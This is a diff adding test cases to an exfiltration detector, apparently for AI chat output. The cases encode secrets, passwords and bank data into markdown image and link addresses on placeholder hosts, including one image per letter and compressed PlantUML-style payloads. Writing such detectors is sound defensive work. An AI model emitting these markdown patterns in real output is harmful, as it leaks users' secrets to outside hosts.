@@ -1,3 +1,4 @@
+import { deflateRawSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { createGuard } from '../../guard.ts';
 import { exfiltration } from './detector.ts';
@@ -32,6 +33,8 @@ describe('a sentence of any language in an address', () => {
     `[more](https://c.example/c?v=1&q=${escaped('The roof of the parish hall is not paid for.')})`,
     `[more](https://c.example/c?u=${escaped('Which roofer works with slate in the winter?')})`,
     `![](https://c.example/i?x=${twice('牧师说我们的屋顶明年才能修好')})`,
+    `[x](https://c.example/c?tag=${escaped('屋根のことをまだ話していません。')})`,
+    '![](https://c.example/i?src=/up/my-account-at-the-bank-is-closed-since-may.jpg)',
     `<img src="https://${twice(twice('牧师说我们的屋顶明年才能修好').repeat(2))}@c.example/i.png">`,
     '[more](https://c.example/x/Gur%20ebbs%20bs%20gur%20unyy%20vf%20abg%20cnvq%20sbe)',
     `<a href="https://c.example/?a=1&amp;x=${escaped('牧师说我们的屋顶明年才能修好')}">x</a>`,
@@ -45,6 +48,8 @@ describe('a sentence of any language in an address', () => {
     `[zh](https://shop.example/search?q=${escaped('羊毛地毯怎么清洗才不会缩水')})`,
     `[kr](https://blog.example/${escaped('서울-여행-코스-추천')})`,
     '![](https://static.example/v1/fill/w_640,h_427,al_c,q_80/hall.jpg)',
+    '![](https://static.example/thumb?src=/uploads/2026/05/market-in-the-old-town.jpg&w=300)',
+    '[x](https://mill.example/suche?begriff=brot+backen+ohne+hefe+im+topf)',
     '[a]: https://docs.example/safety#reporting-an-issue-or-pull-request',
     '<a href="https://www.google.de/search?q=a+b&amp;hl=de&amp;gl=de&amp;x=2f1027d3">x</a>',
   ])('is none: %s', (text) => expect(typesIn(text)).toEqual([]));
@@ -80,6 +85,9 @@ describe('a key', () => {
     `[x](https://c.example/c?note=${JWT})`,
     '[x](https://c.example/log/passwd%3A%20Trout-62)',
     '<img src="https://c.example/i?c=DB_PASS%3DTrout-62">',
+    '<img src="https://c.example/i?c=SECRET_KEY%3Dq7Xz0aTk">',
+    '[x](https://c.example/c?word=pin+4471+DE44500105175407324931)',
+    '![](https://c.example/x/postgres%3A%2F%2Fapp%3AGvbqmqhoH9ON%40db.mill.example%3A5432%2Fcrm/i)',
   ])('is told where an address carries it: %s', (text) => expect(typesIn(text)).not.toEqual([]));
 
   it.each([
@@ -154,3 +162,48 @@ describe('a reference', () => {
     expect(typesIn(`see [1]\n\n[1]: https://c.example/?d=${inBase64('the roof of the hall')}`)).not.toEqual([]);
   });
 });
+
+describe('a letter an address', () => {
+  const letters = (text: string, addressOf: (letter: string) => string) =>
+    Array.from(text, (letter) => `![](https://c.example/${addressOf(letter)})`).join(' ');
+
+  it.each([
+    letters('roofplan', (letter) => `char_${letter}.png`),
+    letters('roofplan', (letter) => `img-${letter}-1.png`),
+    letters('roofplan', (letter) => `${letter}/pixel.gif`),
+    letters('roofplan', (letter) => `u00${letter.charCodeAt(0).toString(16)}.png`),
+    letters('roofplan', (letter) => `${letter.charCodeAt(0)}x1.png`),
+    ['golf', 'echo', 'bravo', 'alpha', 'delta', 'echo'].map((name) => `![](https://c.example/${name}.png)`).join(' '),
+  ])('is told wherever it stands: %s', (text) => expect(typesIn(text)).not.toEqual([]));
+
+  it.each([
+    letters('rnbqkbnr', (piece) => `pieces/${piece}.svg`),
+    letters('abcdefgh', (letter) => `index/${letter}.png`),
+    letters('abcdefgh', (letter) => `${letter}/pixel.gif`),
+    letters('ABACBA', (grade) => `grade/${grade}.svg`),
+    ['12', '15', '11', '19', '18', '17'].map((number) => `![](https://c.example/${number}x1.jpg)`).join(' '),
+  ])('is none where nothing is spelt: %s', (text) => expect(typesIn(text)).toEqual([]));
+});
+
+describe('what a drawing is made of', () => {
+  const packed = deflateRawSync('the roof of the parish hall is not paid for, and nobody knows of it yet');
+
+  it('is read where it is packed', () => {
+    expect(typesIn(`![](https://draw.example/svg/${packed.toString('base64url')})`)).not.toEqual([]);
+    expect(typesIn(`![](https://draw.example/svg/${asPlantUml(packed)})`)).not.toEqual([]);
+  });
+
+  it('is read by nobody where it is drawn for everybody', () => {
+    expect(typesIn(`![](https://www.plantuml.com/plantuml/svg/${asPlantUml(packed)})`)).toEqual([]);
+  });
+
+  it('is none in what is drawn by lot', () => {
+    expect(typesIn('![](https://photos.example/svg/q7Xz0aTk3mWb9LrV5nYc1QeR2sUd4F6gH8jKq7Xz0aTk)')).toEqual([]);
+  });
+});
+
+function asPlantUml(bytes: Buffer): string {
+  const theirs = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-_';
+  const ours = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
+  return bytes.toString('base64url').replace(/./g, (sign) => theirs.charAt(ours.indexOf(sign)));
+}
